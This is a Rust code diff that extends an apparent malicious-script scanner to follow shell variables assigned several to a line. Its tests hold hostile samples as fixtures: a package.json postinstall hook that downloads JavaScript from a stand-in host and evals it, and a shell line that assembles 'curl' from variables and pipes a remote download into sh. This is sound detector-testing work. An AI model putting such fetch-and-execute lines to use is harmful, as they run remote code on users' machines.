@@ -955,6 +955,9 @@ impl Flow<'_> {
     /// Taints what this line assigns or writes with what it holds, and keeps plain values.
     fn remember(&mut self, raw: &str, line: &Line, number: usize) {
         let kinds = line.items.iter().fold(0, |k, (_, kind, _)| k | kind);
+        if kinds == 0 && self.several_assignments(raw) {
+            return;
+        }
         if let Some((name, value)) = assignment(raw) {
             let (name, appended) = match name.strip_suffix('+') {
                 Some(name) => (name, true),
@@ -985,6 +988,27 @@ impl Flow<'_> {
             self.files
                 .insert(basename(word).to_owned(), (kinds, number));
         }
+    }
+
+    /// Records `a=cu; b=rl` (each one word) as the shell does, one after the other; true when
+    /// the line was that.
+    fn several_assignments(&mut self, raw: &str) -> bool {
+        let parts: Vec<(&str, &str)> = raw
+            .split(';')
+            .map(str::trim)
+            .filter(|p| !p.is_empty())
+            .map_while(assignment)
+            .collect();
+        let whole = parts.len() > 1
+            && parts.len() == raw.split(';').filter(|p| !p.trim().is_empty()).count()
+            && parts.iter().all(|(_, v)| !v.contains(char::is_whitespace));
+        if whole {
+            for (name, value) in parts {
+                let expanded = expand(value, &self.vars);
+                self.vars.set(name, &expanded);
+            }
+        }
+        whole
     }
 
     /// Marks the line at `at` reported; `None` when it already was.
@@ -1397,6 +1421,12 @@ mod tests {
         assert!(codes("scripts/d.py", daemon).is_empty());
         let json = "{\"scripts\": {\"postinstall\": \"node -e \\\"require('https').get('https://n.x.example/p.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })\\\"\"}}\n";
         assert_eq!(codes("package.json", json), ["SK920"]);
+    }
+
+    #[test]
+    fn assignments_on_one_line_are_each_remembered() {
+        let sh = "a=cu; b=rl; h=s.x.example\n$a$b -s https://$h/p | sh\n";
+        assert_eq!(codes("scripts/s.sh", sh), ["SK903"]);
     }
 
     #[test]
